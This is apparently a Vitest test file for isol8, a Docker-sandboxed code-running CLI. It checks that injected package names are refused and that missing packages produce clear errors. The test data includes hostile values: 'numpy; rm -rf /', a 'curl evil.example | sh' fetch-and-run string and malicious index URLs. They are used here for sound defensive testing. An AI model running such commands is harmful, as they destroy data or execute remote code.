import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "./helpers/cli.js";
import { creations, type EngineSpy, spyOnEngine, startedContainers } from "./helpers/engine-spy.js";
import { waitUntilGone } from "./helpers/watched-engine.js";

let spy: EngineSpy;
beforeAll(async () => {
  spy = await spyOnEngine();
});
afterAll(async () => {
  await spy?.close();
});

/** Requests other than the engine check (`GET /_ping`): a refused name must not get further. */
const beyondPing = (requests: readonly string[]) => requests.filter((r) => !/^(GET|HEAD) \/_ping/.test(r));

describe("invalid package names: exit 2, one line, nothing asked of Docker", () => {
  it.each([
    [
      "python",
      "--install=--index-url=http://x",
      /"--index-url=http:\/\/x" is not a valid python package name: it starts with '-'/,
    ],
    [
      "python",
      "numpy; rm -rf /",
      /"numpy; rm -rf \/" is not a valid python package name: .*shell characters/,
    ],
    ["python", "./evil_pkg", /"\.\/evil_pkg" is not a valid python package name: paths are not accepted/],
    ["python", "https://example.com/evil-1.0.whl", /is not a valid python package name: URLs and VCS links/],
    ["python", "git+https://example.com/evil.git", /is not a valid python package name: URLs and VCS links/],
    ["node", "someone/repo", /"someone\/repo" is not a valid node package name: .*GitHub repository/],
    ["node", "file:../evil", /"file:\.\.\/evil" is not a valid node package name: URLs, git and alias/],
    ["deno", "chalk", /"chalk" is not a valid deno package name: .*prefix the name with npm: or jsr:/],
    ["bash", "jq:i386", /"jq:i386" is not a valid bash package name: architecture qualifiers/],
  ])("%s %s", async (runtime, spec, message) => {
    spy.reset();
    const install = spec.startsWith("--install=") ? [spec] : ["--install", spec];
    const result = await runCli(["run", "-e", "1", "--runtime", runtime, ...install], { env: spy.env });
    expect(result.code).toBe(2);
    const [first, ...rest] = result.stderr.trimEnd().split("\n");
    expect(first).toMatch(/^isol8: /);
    expect(first).toMatch(message);
    // Anything after the message is its indented hint, never a stack trace.
    for (const line of rest) expect(line).toMatch(/^ {2}\S/);
    expect(result.stderr).not.toMatch(/\n\s+at /);
    expect(result.stdout).toBe("");
    expect(beyondPing(spy.requests)).toEqual([]);
  });

  it("checks the config's dependencies of the runtime as strictly as --install", async () => {
    const dir = mkdtempSync(join(tmpdir(), "isol8-deps-bad-config-"));
    try {
      writeFileSync(
        join(dir, "isol8.config.json"),
        JSON.stringify({ dependencies: { python: ["numpy; curl evil.example | sh"] } }),
      );
      spy.reset();
      const result = await runCli(["run", "-e", "1", "-r", "python"], { cwd: dir, env: spy.env });
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(
        /^isol8: "numpy; curl evil\.example \| sh" is not a valid python package name/,
      );
      expect(beyondPing(spy.requests)).toEqual([]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe("a package that does not exist: exit 123, the package manager's own words", () => {
  const missing = "isol8-surely-missing-pkg-zzz";
  it.each([
    ["python", missing, `ERROR: No matching distribution found for ${missing}`],
    ["node", missing, `npm error 404 Not Found - GET https://registry.npmjs.org/${missing}`],
    ["bun", missing, `error: GET https://registry.npmjs.org/${missing} - 404`],
    ["deno", `npm:${missing}`, `error: npm package '${missing}' does not exist.`],
    ["bash", missing, `E: Unable to locate package ${missing}`],
  ])("%s %s", async (runtime, spec, quoted) => {
    spy.reset();
    const result = await runCli(["run", "-e", "echo ran", "--runtime", runtime, "--install", spec], {
      env: spy.env,
    });
    expect(result.code).toBe(123);
    expect(result.stdout).toBe("");
    const [first] = result.stderr.split("\n");
    expect(first).toBe(
      `isol8: Installing ${spec} for ${runtime} failed (the package manager exited ${
        runtime === "bash" ? 100 : 1
      })`,
    );
    expect(result.stderr).toContain(`  ${quoted}`);
    // The container that tried the install was created once.
    const sandboxCreations = creations(spy.requests).filter(
      (r) => r.includes("/containers/create") && !r.includes("name=isol8-proxy-"),
    );
    expect(sandboxCreations).toHaveLength(1);
    // It removes itself (Docker's auto-remove) once its agent quits.
    const started = startedContainers(spy.requests);
    expect(started).toHaveLength(1);
    expect(await waitUntilGone(started)).toEqual([]);
  });
});
